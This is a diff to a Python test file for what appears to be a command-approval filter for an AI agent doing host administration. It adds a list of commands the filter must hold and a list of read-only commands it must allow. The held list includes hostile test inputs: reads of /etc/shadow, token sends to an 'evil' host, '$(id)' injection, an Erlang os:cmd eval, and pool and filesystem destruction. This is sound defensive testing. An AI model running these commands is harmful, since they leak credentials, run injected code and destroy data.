@@ -173,7 +173,56 @@ ALLOWED = [
     "grafana-cli plugins ls",
 ]
 
+#: tools the same kind of agent reaches for next (not in the measured corpus): each tool's
+#: report modes are known safe, every verb or option that changes, runs, reads a file or
+#: sends the environment's token elsewhere stays held
+HOST_HELD = [
+    "lvs --config 'x' vg0", "lvs --profile x", "vgs --commandprofile x", "pvs --devicesfile x",
+    "mdadm --stop /dev/md0", "mdadm /dev/md0 --fail /dev/sda1", "mdadm --zero-superblock /dev/sda1",
+    "mdadm --detail /dev/md0 --remove /dev/sdb", "mdadm -E /etc/shadow", "mdadm --grow /dev/md0",
+    "mdadm --detail /tmp/x", "mdadm --assemble --scan", "mdadm --detail --config=/tmp/x",
+    "zpool status -c smart", "zpool iostat -c smart", "zpool scrub tank", "zpool destroy tank",
+    "zfs destroy tank/data", "zfs set x=y tank", "zfs rollback tank@x", "zpool set x=y tank",
+    "btrfs device stats -z /", "btrfs subvolume delete /x", "btrfs balance start /",
+    "btrfs filesystem resize max /", "btrfs property set / ro false",
+    "ethtool -s eth0 speed 100", "ethtool -K eth0 tso off", "ethtool -E eth0 magic 1 offset 0",
+    "ethtool -f eth0 fw.bin", "ethtool -m eth0 raw on", "ethtool --reset eth0 all",
+    "ethtool -r eth0", "ethtool -d eth0 file /etc/shadow",
+    "conntrack -D -p tcp", "conntrack -F", "conntrack -L -z", "conntrack -E", "conntrack -I x",
+    "conntrack -U --mark 1", "conntrack -L /etc/shadow",
+    "systemd-analyze verify /tmp/x.service", "systemd-analyze cat-config systemd/system.conf",
+    "systemd-analyze dump", "systemd-analyze -H other blame",
+    "loginctl terminate-session 3", "loginctl kill-user bob", "loginctl enable-linger bob",
+    "sensors -s", "sensors -c /etc/shadow", "arp -d 10.0.0.1", "arp -s 10.0.0.1 aa:bb:cc:dd:ee:ff",
+    "arp -f /etc/shadow", "vault status -address=http://evil", "vault read secret/x",
+    "vault kv get x", "vault token create", "consul members -http-addr=http://evil",
+    "consul kv get x", "consul members -token=x", "nodetool decommission", "nodetool drain",
+    "nodetool status '$(id)'", "nodetool -u cassandra -pw x status", "nodetool truncate ks t",
+    "rabbitmqctl environment", "rabbitmqctl eval 'os:cmd(\"id\").'", "rabbitmqctl delete_queue x",
+    "rabbitmqctl change_password guest x", "rabbitmqctl purge_queue x",
+    "rabbitmqctl list_queues --erlang-cookie x", "journalctl --verify-key=x",
+    "journalctl --file /etc/shadow", "kubectl api-resources --kubeconfig /tmp/x",
+    "kubectl api-resources --server https://evil",
+]
+HOST_ALLOWED = [
+    "sudo lvs", "sudo vgs -o +vg_free", "pvs /dev/sda2", "lvs -a --units g vg0",
+    "sudo mdadm --detail /dev/md0", "mdadm --detail --scan", "mdadm -Ds", "cat /proc/mdstat",
+    "zpool status", "zpool status -x tank", "zpool iostat -v 5 3", "zpool list -H -o name,health",
+    "zfs list", "zfs list -t snapshot -o name,used", "zfs get all tank/data",
+    "btrfs filesystem df /", "btrfs fi usage /srv", "btrfs device stats /",
+    "btrfs subvolume list /srv", "ethtool eth0", "ethtool -S eth0 | grep -i err",
+    "ethtool -i eth0", "sudo conntrack -S", "conntrack -C", "conntrack -L -p tcp --dport 443",
+    "systemd-analyze blame | head -20", "systemd-analyze critical-chain nginx.service",
+    "systemd-analyze security nginx", "loginctl list-sessions", "ntpstat", "lsb_release -a",
+    "sensors", "arp -n", "slabtop -o | head -20", "nstat -az", "vault status",
+    "vault status -format=json", "consul members", "nodetool status",
+    "nodetool -h cass1 status app",
+    "rabbitmqctl list_queues name messages", "rabbitmqctl status", "rabbitmqctl cluster_status",
+    "journalctl --verify", "kubectl api-resources --verbs=list --namespaced -o name",
+]
+
 test_held, test_allowed = table_tests(HELD, ALLOWED)
+test_host_held, test_host_allowed = table_tests(HOST_HELD, HOST_ALLOWED)
 
 
 def test_a_dollar_inside_double_quotes_is_no_locale_quote() -> None:
